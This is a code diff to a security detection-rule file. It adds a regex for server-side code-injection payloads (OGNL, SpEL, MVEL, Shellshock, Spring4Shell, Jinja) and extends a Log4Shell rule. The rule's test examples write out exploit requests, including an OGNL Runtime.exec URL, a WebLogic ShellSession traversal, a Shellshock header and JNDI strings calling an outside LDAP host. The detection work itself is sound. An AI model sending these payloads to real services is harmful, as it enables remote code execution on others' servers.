@@ -3,6 +3,7 @@ import type { SimpleCommand } from '../shell/types.js';
 import { SHELLS, isInterpreterName } from '../shell/wrappers.js';
 import { codeOutsideStrings } from '../shell/inline-code.js';
 import { baseName } from '../shell/names.js';
+import { percentDecoded } from '../shell/decoders.js';
 import { cloudLaunch, containerRun, containerVerbAt, optionValue } from '../shell/command-args.js';
 
 export { SHELLS };
@@ -423,6 +424,14 @@ function txtLookup(c: SimpleCommand): boolean {
 
 /** `${jndi:`, also with its letters built by lookups (`${${lower:j}ndi:`, `${j${::-n}di:`). */
 const JNDI = /\$\{(?:j|\$\{[^{}]{0,24}\})(?:n|\$\{[^{}]{0,24}\})(?:d|\$\{[^{}]{0,24}\})(?:i|\$\{[^{}]{0,24}\}):/i;
+/**
+ * Server-side code injection that runs a program: OGNL (`@java.lang.Runtime@getRuntime()`, Confluence), SpEL
+ * (`T(java.lang.Runtime)`), WebLogic's MVEL `ShellSession(`, Java's `Runtime.getRuntime().exec(` and ProcessBuilder,
+ * Spring4Shell's `class.module.classLoader`, Text4Shell's `${script:`, Shellshock's `() { :; };`, Jinja's `__import__('os').popen`.
+ */
+const CODE_INJECTION = /Runtime\s{0,8}\.\s{0,8}getRuntime\s{0,8}\(\s{0,8}\)\s{0,8}\.\s{0,8}exec|@java\.lang\.Runtime@getRuntime|T\s{0,8}\(\s{0,8}java\.lang\.Runtime\s{0,8}\)|ShellSession\s{0,8}\(|java\.lang\.ProcessBuilder|\(\s{0,8}\)\s{0,8}\{\s{0,8}:\s{0,8};\s{0,8}\}\s{0,8};|class\.module\.classLoader|\$\{script:|__import__\s{0,8}\(\s{0,8}['"]os['"]\s{0,8}\)\s{0,8}\.\s{0,8}(?:popen|system)/;
+/** A request's text as the server reads it: percent-decoded twice, for a payload encoded twice (`%252e`). */
+const asServed = (t: string) => percentDecoded(percentDecoded(t.slice(0, 4096)));
 /** Deserializers that run code named in their input: pickle and its kin, marshal's code objects, YAML's unsafe loader. */
 const UNPICKLES = /\b(?:pickle|cPickle|dill|cloudpickle|marshal|_pickle)\.loads?\(|\byaml\.unsafe_load\(|\byaml\.load\([^)]{0,200}Loader\s*=\s*yaml\.(?:Unsafe)?Loader\b|\bjoblib\.load\(/;
 /** Interpreter code that fetches over HTTP: Python, Perl, Ruby, PHP and Node libraries and calls, and Cocoa's from JXA. */
@@ -1063,12 +1072,12 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-C2-026', name: 'sends-jndi-lookup', score: 85, tactic: 'initial_access', technique: 'T1190', strong: true,
-    message: 'Sends a JNDI lookup string (Log4Shell) to a service', why: 'A `${jndi:ldap://…}` string in a header, parameter or body makes a vulnerable Log4j load and run a class from the attacker\'s server.',
+    message: 'Sends a JNDI lookup string (Log4Shell) or a code-injection payload (OGNL, SpEL, MVEL, Shellshock) to a service', why: 'A `${jndi:ldap://…}` string in a header, parameter or body makes a vulnerable Log4j load and run a class from the attacker\'s server; an OGNL or SpEL expression that reaches Runtime.exec runs a program on the server (Confluence, Struts, WebLogic, Spring).',
     check: (i) => {
       const texts = i.call.kind === 'network' ? [i.call.url, ...Object.values(i.call.headers), i.call.body ?? ''] : (i.view?.commands ?? []).filter((c) => isFetcher(c) || c.name === 'nc' || c.name === 'ncat').flatMap((c) => c.argv.slice(1));
-      return texts.find((t) => JNDI.test(t.slice(0, 4096)))?.slice(0, 160);
+      return texts.find((t) => JNDI.test(t.slice(0, 4096)) || CODE_INJECTION.test(asServed(t)))?.slice(0, 160);
     },
-    examples: { fire: ["curl -s http://10.0.0.40:8080/ -H 'X-Api-Version: ${jndi:ldap://45.9.148.35:1389/Basic/Command/Base64/Y3VybA==}'", { Network: { method: 'GET', url: 'http://10.0.0.40:8080/', headers: { 'User-Agent': '${${lower:j}ndi:ldap://45.9.148.35/a}' } } }], quiet: ['curl -s http://localhost:8080/health', "grep -rn 'jndi:' logs/", { Network: { method: 'POST', url: 'https://api.example.com/notes', body: 'the CVE-2021-44228 writeup' } }] },
+    examples: { fire: ['curl -s "http://wiki.internal:8090/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"', "curl -s 'http://10.0.8.14:7001/console/css/%252e%252e%252fconsole.portal?handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)'", "curl -H 'User-Agent: () { :; }; /bin/bash -c id' http://10.0.0.5/cgi-bin/status", "curl -s http://10.0.0.40:8080/ -H 'X-Api-Version: ${jndi:ldap://45.9.148.35:1389/Basic/Command/Base64/Y3VybA==}'", { Network: { method: 'GET', url: 'http://10.0.0.40:8080/', headers: { 'User-Agent': '${${lower:j}ndi:ldap://45.9.148.35/a}' } } }], quiet: ['curl -s http://localhost:8080/health', "grep -rn 'jndi:' logs/", "grep -rn 'getRuntime().exec' src/main/java", 'curl -s "http://wiki.internal:8090/rest/api/content?title=Runtime%20exec%20notes"', { Network: { method: 'POST', url: 'https://api.example.com/notes', body: 'the CVE-2021-44228 writeup' } }] },
   },
   {
     id: 'PX-C2-029', name: 'windows-downloads-and-runs', score: 85, tactic: 'execution', technique: 'T1218', strong: true,
